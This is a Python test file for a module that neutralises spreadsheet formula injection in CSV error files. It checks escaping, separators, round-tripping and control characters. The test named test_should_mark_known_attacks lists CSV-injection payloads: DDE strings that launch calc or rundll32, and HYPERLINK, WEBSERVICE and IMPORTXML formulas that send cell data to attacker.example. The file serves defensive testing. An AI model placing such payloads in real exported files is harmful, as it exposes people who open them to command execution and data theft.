"""The error file: its content, and that no spreadsheet runs a formula in it."""

import csv
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from workspace.imports import error_files

DANGEROUS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", '"=1', "'=1", '" =1', "＝1",
    "＋1", "－1", "＠x", "−1", "\0=1", "“=1”", "   \t@x",
]  # fmt: skip


@pytest.mark.parametrize("cell", DANGEROUS)
def test_should_mark_formulas_as_text(cell):
    assert error_files.safe(cell) == "'" + cell
    assert error_files.unsafe(error_files.safe(cell)) == cell


@pytest.mark.parametrize(
    ("cell", "marked"),
    [
        ("rep;=1+1", "rep;'=1+1"),
        ("rep; =1+1;@x", "rep;' =1+1;'@x"),
        ("a|-1", "a|'-1"),
        ("=1;=2", "'=1;'=2"),
        ('a;"=1"', 'a;\'"=1"'),
        ("a;＝1", "a;'＝1"),
    ],
)
def test_should_mark_formulas_after_a_list_separator(cell, marked):
    """A spreadsheet whose cells are separated by semicolons makes a cell of each part."""
    assert error_files.safe(cell) == marked
    assert error_files.unsafe(marked) == cell


@given(st.text(alphabet="a'\"=+-@;|\t\r\n ＝", max_size=12))
def test_should_leave_no_part_of_a_cell_that_is_a_formula(cell):
    safe = error_files.safe(cell)
    for part in re.split(r"[;|]", safe)[1:]:
        assert not part.lstrip(' "').startswith(tuple("=+-@＝"))
    assert error_files.unsafe(safe) == cell


def test_should_name_no_control_characters(tmp_path):
    path = error_files.write_error_file(
        tmp_path, "de\x1b[31mals\n.csv", ["deal"], [(2, "'a\x1b[2Jb\0' is bad.", ["x"])], set()
    )
    assert path.name.isprintable()
    with path.open(encoding="utf-8-sig", newline="") as file:
        [_, [_, problem, _]] = csv.reader(file)
    assert problem.isprintable()
    assert problem.endswith("is bad.")


@pytest.mark.parametrize("cell", ["", "Acme", "1,000", "'quoted'", "O'Neill", "a=b", "2024-01-01"])
def test_should_leave_other_cells_alone(cell):
    assert error_files.safe(cell) == cell


@given(st.text(max_size=20))
def test_should_give_back_every_cell(cell):
    assert error_files.safe(cell)[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert error_files.unsafe(error_files.safe(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A1",
        "@SUM(2+2)*cmd|' /C notepad'!A1",
        "+2+3+cmd|' /C calc'!A1",
        "-2+3+cmd|' /C calc'!A1",
        "=rundll32|'shell.dll,Open'!_xlbgnm.A1",
        '=HYPERLINK("https://attacker.example/?"&A1&B1,"Details")',
        '=WEBSERVICE(CONCATENATE("https://attacker.example/",A1))',
        '=IMPORTXML(CONCAT("https://attacker.example/?", A1), "//a")',
        "\t=cmd|' /C calc'!A1",
    ],
)
def test_should_mark_known_attacks(cell):
    assert error_files.safe(cell) == "'" + cell


def test_should_write_line_reason_and_cells(tmp_path):
    taken = set()
    for expected in ("deals.errors.csv", "deals.errors-2.csv"):
        path = error_files.write_error_file(
            tmp_path / "errors",
            "deals.csv",
            ["deal", "=x"],
            [(7, "It is bad.", ["=1", "ż"])],
            taken,
        )
        assert path.name == expected
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [
            ["line", "problem", "deal", "'=x"],
            ["7", "It is bad.", "'=1", "ż"],
        ]
